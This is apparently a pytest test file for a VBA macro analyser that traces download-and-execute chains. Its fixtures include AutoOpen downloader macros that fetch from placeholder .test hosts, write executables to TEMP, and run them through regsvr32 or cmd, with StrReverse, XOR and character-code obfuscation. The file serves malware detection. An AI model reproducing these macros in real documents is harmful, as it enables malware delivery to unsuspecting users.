"""What following macros tells: addresses whole or not at all, the chain in words, and where each piece was built."""

import random
import re

import pytest

from seriema.examine.vba.document import Control, Document, Form
from seriema.examine.vba.project import Module
from seriema.examine.vba.story import follow, whole_address
from seriema.examine.vba.values import UNKNOWN, joined

DECLARE = 'Declare Function g Lib "urlmon" Alias "URLDownloadToFileA" (a, b, c, d, e)\n'


def story(body, document=None, around=""):
    source = f"{DECLARE}{around}\nSub AutoOpen()\n{body}\nEnd Sub"
    return follow([Module("Module1", source)], document or Document())


def test_the_chain_is_said_in_words():
    seen = story('u = "http://a.test/" & "x"\nIf g(0, u, "C:\\x.dll", 0, 0) = 0 Then Shell "regsvr32 C:\\x.dll"')
    ((start, sentence),) = seen.chains
    assert start.name == "AutoOpen"
    assert sentence == (
        "AutoOpen fetches http://a.test/x (URLDownloadToFileA, Module1:5), saves it as C:\\x.dll "
        "and runs regsvr32 C:\\x.dll (Shell, Module1:5)"
    )


def test_each_piece_of_an_address_names_its_line():
    seen = story('h = "a.test"\np = "/x.exe"\nu = "http://" & h & p\ng 0, u, "C:\\x", 0, 0')
    assert seen.built[0][1] == (
        'http://a.test/x.exe = "http://" (Module1:6) + "a.test" (Module1:4) + "/x.exe" (Module1:5)'
    )


@pytest.mark.parametrize("piece", ['Environ("COMPUTERNAME")', "Rnd", "Now", "unheardOf()", 'GetObject("x").y'])
def test_an_address_with_a_hole_is_never_said_as_one(piece):
    seen = story(f'g 0, "http://a.test/" & {piece} & "/x", "C:\\x", 0, 0')
    assert seen.values("fetch") == []
    assert [one.does for one in seen.unknown] == ["fetch"]
    assert seen.domains == ["a.test"]


def test_every_answer_of_the_environment_is_tried_once():
    body = (
        'If Environ("a") = "1" Then Exit Sub\n'
        'If Environ("b") = "2" Then u = "http://b.test/" Else u = "http://c.test/"\n'
        'g 0, u, "C:\\x", 0, 0'
    )
    assert set(story(body).values("fetch")) == {"http://b.test/", "http://c.test/"}


def test_a_key_of_the_country_is_found():
    codes = ", ".join(str(ord(one) + 81) for one in "http://j.test/k")
    body = f'For Each c In Array({codes})\nu = u & Chr(c - Application.International(2))\nNext\ng 0, u, "C:\\x", 0, 0'
    assert story(body).values("fetch") == ["http://j.test/k"]


def test_what_is_written_is_kept():
    seen = story('Open "C:\\a.bat" For Output As #1\nPrint #1, "start x"\nClose #1')
    assert seen.dropped == {"C:\\a.bat": b"start x\r\n"}


def test_the_texts_of_a_form_are_read():
    form = Form("F", {"tag": "C:\\x"}, (Control("L", {"caption": "http://f.test/"}),))
    seen = story("g 0, F.L.Caption & 1, F.Tag, 0, 0", Document(forms=(form,)), around="")
    assert (seen.values("fetch"), seen.values("save")) == (["http://f.test/1"], ["C:\\x"])


def test_only_whole_addresses_count():
    assert whole_address("http://a.test/x") == "http://a.test/x"
    assert whole_address(joined("http://a.test/", UNKNOWN)) == ""
    for text in ("http://", "http:///x", "http://a b.test/", "htp://a.test", "http://a.test/\x01", "x http://a.test/"):
        assert whole_address(text) == ""


# -- mutated macros ---------------------------------------------------------------------------------------------------

MACRO = """Private k As Integer
Function dec(s, Optional n = 2)
    Dim i As Long, r() As String
    ReDim r(Len(s))
    For i = 1 To Len(s)
        Select Case Mid(s, i, 1)
            Case "a" To "z": r(i) = Chr(Asc(Mid(s, i, 1)) Xor n)
            Case Else: r(i) = Mid(s, i, 1)
        End Select
    Next i
    dec = Join(r, "")
End Function
Sub AutoOpen()
    On Error Resume Next
    Dim d As Object, u As String, f
    Set d = CreateObject("Scripting.Dictionary")
    d("u") = StrReverse("x/tset.a//:ptth")
    With CreateObject("MSXML2.XMLHTTP")
        .Open "GET", d("u") & dec("cz"), False
        .send
        If .Status = 200 Then
            f = FreeFile
            Open Environ("TEMP") & "\\x.exe" For Binary As #f
            Put #f, , .responseBody
            Close #f
        End If
    End With
    Do While k < 5
        k = k + 1: u = u & Hex(k)
    Loop
    Shell "cmd /c " & Environ("TEMP") & "\\x.exe " & u
End Sub
"""
_PARTS = re.findall(r'"[^"]*"|\w+|[^\w\s]|\s+', MACRO)
_OTHERS = (
    "If",
    "Then",
    "(",
    ")",
    '"',
    "Next",
    "End Sub",
    "&",
    "1",
    "-1",
    "Sub",
    ":",
    "GoTo 1",
    "Loop",
    "\n",
    "With",
    "=",
    ".",
)


def mutant(number):
    """The macro with some pieces taken out, doubled, moved or replaced; the same for the same number."""
    draw = random.Random(number)
    parts = list(_PARTS)
    for _ in range(draw.randint(1, 12)):
        at = draw.randrange(len(parts))
        change = draw.randrange(4)
        if change == 0:
            del parts[at]
        elif change == 1:
            parts.insert(at, parts[draw.randrange(len(parts))])
        elif change == 2:
            parts[at] = draw.choice(_OTHERS)
        else:
            other = draw.randrange(len(parts))
            parts[at], parts[other] = parts[other], parts[at]
    return "".join(parts)


@pytest.mark.parametrize("first", range(0, 200, 25))
def test_mutated_macros_raise_nothing_and_invent_no_sink(first):
    for number in range(first, first + 25):
        source = mutant(number)
        seen = follow([Module("M", source)])
        sinks = [one for one in (*seen.facts, *seen.unknown) if one.does == "run"]
        assert not sinks or re.search(r"shell", source, re.IGNORECASE), number
        fetches = [one for one in (*seen.facts, *seen.unknown) if one.does == "fetch"]
        assert not fetches or re.search(r"\.\s*open", source, re.IGNORECASE), number
